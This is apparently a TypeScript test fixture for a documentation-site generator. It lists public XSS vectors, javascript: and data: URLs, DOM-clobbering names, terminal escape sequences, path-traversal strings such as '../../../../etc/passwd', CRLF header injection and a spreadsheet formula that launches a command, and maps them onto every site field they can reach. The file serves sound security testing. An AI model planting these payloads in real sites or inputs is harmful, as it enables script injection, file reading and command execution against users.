/** What attackers write, and every field of a site into which they can write it. */
import type { SiteFiles } from "./siteFiles.ts";

/** Called by whatever runs. */
const run = "ranOfAttack()";
const away = "//attacker.example";

/** By what they try. The origin of each kind is public: lists of XSS, of URL schemes, of DOM clobbering, of terminal escapes. */
export const attacks: Record<string, string[]> = {
  elements: [
    `<script>${run}</script>`,
    `<ScRiPt src=${away}/a.js></sCrIpT>`,
    `<img src=x onerror=${run}>`,
    `"><svg onload=${run}>`,
    `'><svg/onload=${run}//`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<details open ontoggle=${run}>a</details>`,
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<video><source onerror=${run}></video>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${run}"><text y="9">a</text></a></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
    `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<template shadowrootmode=open><img src=x onerror=${run}></template>`,
    `<form action=javascript:${run}><button>a</button></form>`,
    `<button formaction=javascript:${run}>a</button>`,
    `<base href=${away}/>`,
    `<meta http-equiv=refresh content="0;url=${away}/">`,
    `<link rel=stylesheet href=${away}/a.css>`,
    `<object data=${away}/a></object><embed src=${away}/a>`,
    `<style>@import "${away}/a.css"; * { background: url(${away}/a) }</style>`,
    `<p style="background:url(${away}/a)" onmouseover=${run}>a</p>`,
    `<x-island data-island="load" data-props="{}" onclick=${run}>a</x-island>`,
  ],
  "ends of what is around": [
    `</script><script>${run}</script>`,
    `</title><script>${run}</script>`,
    `</textarea></style></template></noscript><img src=x onerror=${run}>`,
    `--><script>${run}</script><!--`,
    `]]><script>${run}</script>`,
    `<!--<script>`,
    `"};${run};//`,
    `*/${run}/*`,
    `';${run};'`,
    `\`\${${run}}\``,
    `{{constructor.constructor('${run}')()}}`,
    `{${run}}`,
    `\u2028${run}\u2029`,
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `" onmouseover="${run}" x="`,
    `' autofocus onfocus='${run}`,
    // Ends attributes, comments, titles and scripts of any quoting.
    `/*\`/*'/*"/**/${run}//</title></style></textarea></script>--><svg onload=${run}>`,
  ],
  addresses: [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `&#106;avascript&colon;${run}`,
    `javascript://a%0a${run}`,
    `data:text/html,<script>${run}</script>`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
    `vbscript:${run}`,
    "file:///etc/passwd",
    "/\\attacker.example/",
    "../../../../etc/passwd",
    "?a=%0d%0aSet-Cookie:b",
  ],
  "names of the document": [
    "__proto__",
    "constructor",
    "toString",
    "currentScript",
    "getElementById",
    "body",
    "forms",
    "location",
    "__main",
    "__search",
    "bcidocs-data",
  ],
  "terminals and lines": [
    "\u001b[31mred\u001b[2J",
    "\u001b]0;title\u0007\u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007",
    "\u009b31m",
    "\u202etxet",
    "a\r\n::error file=a::b",
    "%0A::warning::b",
    "a\n/*\n  X-Own: 1",
    "a\n/old https://attacker.example 302",
    "=cmd|'/C calc'!A0",
    "| a | b |",
  ],
};

export const payloads = Object.values(attacks).flat();

export interface Field {
  name: string;
  /** Where a reader, a program or a terminal gets it. */
  shown: string;
  /** In front matter. */
  front?: (payload: string) => Record<string, unknown>;
  /** In the text of a page. */
  text?: (payload: string) => string;
  /** Files of their own. `number` differs for each payload. */
  files?: (payload: string, number: number) => SiteFiles;
  /** Who has committed the files. */
  author?: (payload: string) => string;
  /** In the settings, once for a site. */
  settings?: (payload: string) => Record<string, unknown>;
}

const line = (text: string) => text.replace(/[\r\n]+/g, " ");
const quoted = (text: string) => `"${line(text).replaceAll('"', "&quot;")}"`;
const comment = (text: string) => line(text).replaceAll("*/", "* /");
/** What a file system and Git take as a name. */
const fileName = (text: string) => line(text).replace(/[/\0]/g, "∕").slice(0, 80);

/** Every field with data of others that reaches a page, another output, a report or a terminal. */
export const fields: Field[] = [
  { name: "title", shown: "page, tab, sidebar, neighbours, search, Markdown, llms.txt, feed", front: (title) => ({ title }) },
  { name: "title_meta", shown: "tab, previews", front: (title_meta) => ({ title_meta }) },
  { name: "notice", shown: "page, Markdown", front: (notice) => ({ notice }) },
  { name: "description", shown: "head, cards, llms.txt, agents.json", front: (description) => ({ description }) },
  { name: "sidebar_label", shown: "sidebar", front: (sidebar_label) => ({ sidebar_label }) },
  { name: "sidebar_badge", shown: "sidebar", front: (text) => ({ sidebar_badge: { text, tone: text } }) },
  { name: "sidebar_class_name", shown: "sidebar", front: (sidebar_class_name) => ({ sidebar_class_name }) },
  { name: "pagination_label", shown: "neighbours", front: (pagination_label) => ({ pagination_label }) },
  { name: "pagination_next", shown: "neighbours", front: (label) => ({ pagination_next: { label, link: label } }) },
  { name: "keywords", shown: "head, search", front: (keyword) => ({ keywords: [keyword] }) },
  { name: "tags", shown: "page, tag pages", front: (tag) => ({ tags: [tag] }) },
  {
    name: "metadata",
    shown: "head",
    front: (content) => ({
      metadata: [
        { name: content, content },
        { property: "og:a", content },
      ],
    }),
  },
  { name: "last_update", shown: "page", front: (author) => ({ last_update: { author, date: "2026-01-02" } }) },
  { name: "custom_edit_url", shown: "page", front: (custom_edit_url) => ({ custom_edit_url }) },
  { name: "image", shown: "head", front: (image) => ({ image }) },
  { name: "headings", shown: "page, contents, search, ids", text: (text) => `## ${line(text)}\n\n### Named {#${line(text)}}` },
  { name: "text and raw HTML", shown: "page, Markdown, search", text: (text) => `Before ${text} after\n\n${text}\n` },
  { name: "links", shown: "page, reports", text: (text) => `[text](<${line(text)}>) [${line(text)}](https://a.example "${line(text)}")` },
  {
    name: "images",
    shown: "page",
    text: (text) => `![${line(text)}](<${line(text)}> ${quoted(text)})\n\n![${line(text)}](/p.svg ${quoted(text)})`,
  },
  {
    name: "attributes of raw HTML",
    shown: "page",
    text: (text) => `<a href=${quoted(text)} title=${quoted(text)} id=${quoted(text)} name=${quoted(text)}>a</a>`,
  },
  {
    name: "code, its title and language",
    shown: "page, copy button",
    text: (text) => `\`\`\`ts title=${quoted(text)} ${line(text)}\n${text}\n\`\`\`\n\n\`\`\`${line(text)}\n${text}\n\`\`\``,
  },
  { name: "inline code", shown: "page", text: (text) => `\`\` ${line(text)} \`\`` },
  { name: "tables", shown: "page", text: (text) => `| a | ${line(text)} |\n| --- | --- |\n| ${line(text)} | b |` },
  { name: "callouts", shown: "page", text: (text) => `:::note[${line(text)}]\n${text}\n:::\n\n> [!TIP] ${line(text)}\n> a` },
  {
    name: "details and tabs",
    shown: "page, storage",
    text: (text) => `:::details[${line(text)}]\na\n:::\n\n::::tabs{group=${quoted(text)}}\n:::tab[${line(text)}]\na\n:::\n::::`,
  },
  {
    name: "cards, steps and badges",
    shown: "page",
    text: (text) =>
      `:::cards\n- **[${line(text)}](<${line(text)}>)** ${line(text)}\n:::\n\n::badge{text=${quoted(text)} tone=${quoted(text)}}`,
  },
  {
    name: "embeds",
    shown: "page, policy",
    text: (text) =>
      `::youtube{id=${quoted(text)} title=${quoted(text)}}\n\n::iframe{src=${quoted(text)} title=${quoted(text)}}\n\n::video{src=${quoted(text)} title=${quoted(text)} captions=${quoted(text)}}\n\n::iframe{src=/p.svg title=${quoted(text)}}`,
  },
  { name: "math", shown: "page", text: (text) => `$\\text{${line(text)}}$ $\\href{${line(text)}}{a}$\n\n$$\n${text}\n$$` },
  {
    name: "diagrams",
    shown: "page, client",
    text: (text) => `\`\`\`mermaid\nflowchart LR\n  A["${line(text).replaceAll('"', "#quot;")}"] --> B\n  click A "${line(text)}"\n\`\`\``,
  },
  { name: "footnotes", shown: "page", text: (text) => `a[^${line(text)}] b[^1]\n\n[^1]: ${line(text)}` },
  { name: "includes", shown: "page, reports", text: (text) => `::include{file=${quoted(text)}}` },
  { name: "components of the site", shown: "page, data of islands", text: (text) => `::box{text=${quoted(text)}}` },
  {
    name: "samples with types",
    shown: "page, popovers",
    text: (text) => `\`\`\`ts twoslash\nconst value = ${JSON.stringify(text)} as const;\n//    ^?\n\`\`\``,
  },
  {
    name: "file names",
    shown: "page, addresses, sidebar, sitemap, reports",
    files: (text, number) => ({ [`content/docs/names/${number} ${fileName(text)}.md`]: `[no](no.md)\n` }),
  },
  {
    name: "banner and head of other tools",
    shown: "page, Markdown, tab, head",
    files: (text, number) => {
      const head = [
        { tag: "title", content: text },
        { tag: "meta", attrs: { name: text, content: text } },
        ["script", { src: text }, text],
      ];
      return { [`content/docs/banners/p${number}.md`]: `---\n${JSON.stringify({ banner: { content: text }, head })}\n---\n\nText.\n` };
    },
  },
  {
    name: "names of authors in Git",
    shown: "page",
    files: (_, number) => ({ [`content/docs/authors/p${number}.md`]: "# Written\n" }),
    author: (text) => line(text).replace(/[<>\0]/g, "‹"),
  },
  {
    name: "folders and their category files",
    shown: "sidebar, cards",
    files: (text, number) => ({
      [`content/docs/folder-${number}/_category_.json`]: JSON.stringify({
        label: text,
        description: text,
        link: { type: "generated-index", title: text, description: text },
      }),
      [`content/docs/folder-${number}/a.md`]: "# A\n",
    }),
  },
  {
    name: "translations",
    shown: "page, menu",
    files: (text, number) => ({
      [`content/fr/docs/p${number}.md`]: `---\n${JSON.stringify({ title: text, notice: text })}\n---\n\n${text}\n`,
    }),
  },
  {
    name: "names, types and comments of the SDK",
    shown: "reference, JSON, search, popovers",
    files: (text, number) => ({
      [`sdk/a${number}.ts`]: `/** ${comment(text)}\n * @remarks ${comment(text)}\n * @see ${comment(text)}\n * {@link https://a.example ${comment(text)}}\n * @example ${comment(text)}\n * ${comment(text)}\n * @deprecated ${comment(text)}\n */\nexport interface A${number} {\n  /** ${comment(text)} */\n  ${JSON.stringify(text)}: ${JSON.stringify(text)};\n}\n\n/** @param a ${comment(text)}\n * @returns ${comment(text)} */\nexport function a${number}(a = ${JSON.stringify(text)}): ${JSON.stringify(text)} {\n  return a as never;\n}\n`,
    }),
  },
  {
    name: "texts of the settings",
    shown: "shell of every page, head, feed, manifest",
    settings: (text) => ({ title: text, tagline: text, variables: { word: text }, strings: { next: text, onThisPage: text } }),
  },
  {
    name: "names of languages and versions",
    shown: "menus, banner, addresses",
    settings: (text) => ({
      i18n: { defaultLocale: "en", locales: ["en", "fr"], localeConfigs: { fr: { label: text } } },
      docs: [
        {
          path: "content/docs",
          feed: "p0",
          showLastUpdateAuthor: true,
          showLastUpdateTime: true,
          versions: { "1.0": { label: text, folder: "old", banner: "unmaintained" } },
        },
      ],
    }),
  },
  {
    name: "navigation bar, announcement and footer",
    shown: "shell of every page, storage",
    settings: (text) => ({
      themeConfig: {
        // What a config says is HTML, is.
        announcementBar: { id: text, content: text.replaceAll("<", "&lt;") },
        navbar: {
          title: text,
          items: [{ label: text, to: "/docs/p0" }, { type: "docsVersionDropdown" }, { type: "localeDropdown" }, { type: "search" }],
        },
        footer: { copyright: text.replaceAll("<", "&lt;"), links: [{ title: text, items: [{ label: text, to: "/docs/p0" }] }] },
      },
    }),
  },
];
